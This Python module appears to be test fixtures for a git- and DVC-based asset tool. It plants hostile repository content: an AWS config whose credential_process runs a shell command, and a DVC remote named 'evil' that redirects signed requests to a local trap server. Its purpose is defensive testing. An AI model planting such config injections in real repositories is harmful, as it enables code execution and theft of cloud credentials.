"""A project whose server holds hostile runs, one for each kind of harm."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import typer

from gitassets.actions.init import init
from gitassets.actions.track import track
from gitassets.domain.manifest import MANIFEST_NAME
from gitassets.runs.project import Project, find_project
from tests.actions.checks import git, ignore_progress
from tests.actions.locked_run import commit_by_hand
from tests.actions.sharing import make_office, pull_run, push_run
from tests.media import write_picture, write_tone

Harm = Callable[[Path, "Trap"], None]
PULLED = "good"
NOTES = "notes.txt"
_MODEL = "model"


class Trap(ThreadingHTTPServer):
    """An endpoint that must never be called and the path of a file that must never be made."""

    daemon_threads = True
    asked: list[str]
    marker: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(BaseHTTPRequestHandler):
    server: Trap

    def parse_request(self) -> bool:
        """Record every request, whatever its method."""
        self.server.asked.append(self.raw_requestline.decode("latin-1"))
        self.send_error(404)
        return False

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 (its name in the base class)
        del format, args


@contextmanager
def set_trap(folder: Path) -> Iterator[Trap]:
    trap = Trap(("127.0.0.1", 0), _Handler)
    trap.asked, trap.marker = [], folder / "pwned"
    thread = threading.Thread(target=trap.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield trap
    finally:
        trap.shutdown()
        thread.join()
        trap.server_close()


@dataclass(frozen=True)
class Scene:
    """A clone in which the run `good` is open and the hostile runs are known only from the server."""

    folder: Path
    trap: Trap

    @property
    def root(self) -> Path:
        return self.folder / "bea"


def make_scene(folder: Path, trap: Trap, harms: Mapping[str, Harm]) -> Scene:
    office = make_office(folder)
    ann = _make_runs(folder / "ann")
    office.equip(ann.root)
    for run_id in (PULLED, _MODEL):
        push_run(ann, run_id)
    git(folder, "clone", "--quiet", "--branch", f"run/{PULLED}", str(office.server), "mallory")
    clone = folder / "mallory"
    write_program(clone, trap)
    commit_by_hand(clone, "Notes")
    for run_id, harm in harms.items():
        _commit_harm(clone, run_id, lambda harm=harm: harm(clone, trap))
    git(clone, "push", "--quiet", "--no-verify", "origin", "refs/heads/run/*:refs/heads/run/*")
    bea = office.clone(folder / "bea")
    pull_run(bea, PULLED)
    git(bea.root, "fetch", "--quiet")
    return Scene(folder, trap)


def _make_runs(root: Path) -> Project:
    """Make two runs; every hostile run starts as a copy of the second."""
    init(root)
    project = find_project(root)
    for number, run_id in enumerate((PULLED, _MODEL)):
        folder = project.runs_dir / run_id
        write_tone(folder / "audio" / "audio_000.wav", frequency=300 + 20 * number, duration_sec=0.1)
        write_picture(folder / "images" / "scene_000.png", seed=100 + number)
        track(project, folder, on_progress=ignore_progress)
    return project


def _commit_harm(clone: Path, run_id: str, harm: Callable[[], None]) -> None:
    """Commit a run with a correct root commit and the harm on top of it."""
    git(clone, "checkout", "--quiet", "--force", "--orphan", f"run/{run_id}", f"origin/run/{_MODEL}")
    manifest = clone / MANIFEST_NAME
    manifest.write_text(manifest.read_text().replace(f'"run_id": "{_MODEL}"', f'"run_id": "{run_id}"'))
    for act in (lambda: None, harm):
        act()
        git(clone, "add", "--all", "--force")
        git(clone, "commit", "--quiet", "--no-verify", "--message", f"assets({run_id}): nothing to see here")
    git(clone, "clean", "--quiet", "-ffdx")


def write_program(folder: Path, trap: Trap) -> None:
    """Write a text file that runs a program if it is read as an AWS configuration."""
    said = '{"Version": 1, "AccessKeyId": "AKIA", "SecretAccessKey": "x"}'
    program = f"sh -c \"touch {trap.marker}; echo '{said}'\""
    (folder / NOTES).write_text(f"[default]\ncredential_process = {program}\n")


def name_endpoint(folder: Path, trap: Trap) -> None:
    """Name a remote that runs the program of another run and receives requests signed with the user's key."""
    (folder / ".dvc" / "config").write_text(
        "[core]\n    remote = evil\n['remote \"evil\"']\n    url = s3://evil/x\n"
        f"    endpointurl = {trap.url}\n    configpath = ../../{PULLED}/{NOTES}\n"
    )


def configure(*lines: str) -> Harm:
    def harm(folder: Path, trap: Trap) -> None:
        text = "\n".join(lines).replace("ENDPOINT", trap.url).replace("MARKER", str(trap.marker))
        (folder / ".dvc" / "config").write_text(f"{text}\n")

    return harm


def rewrite(change: Callable[[str], str]) -> Harm:
    """Return a harm that rewrites the manifest."""

    def harm(folder: Path, trap: Trap) -> None:
        path = folder / MANIFEST_NAME
        path.write_text(change(path.read_text("utf-8")), "utf-8", errors="surrogatepass")

    return harm


def call(face: typer.Typer, line: str | Sequence[str]) -> int:
    """Run the command line and return its exit code."""
    try:
        face(args=line.split() if isinstance(line, str) else list(line))
    except SystemExit as ended:
        return int(ended.code or 0)
    raise AssertionError("a command ends by itself")


def look(*folders: Path) -> dict[str, tuple[int, int]]:
    """Map every file below the folders to its size and modification time."""
    files = (path for folder in folders for path in folder.rglob("*"))
    return {str(path): (path.lstat().st_size, path.lstat().st_mtime_ns) for path in files if not path.is_dir()}
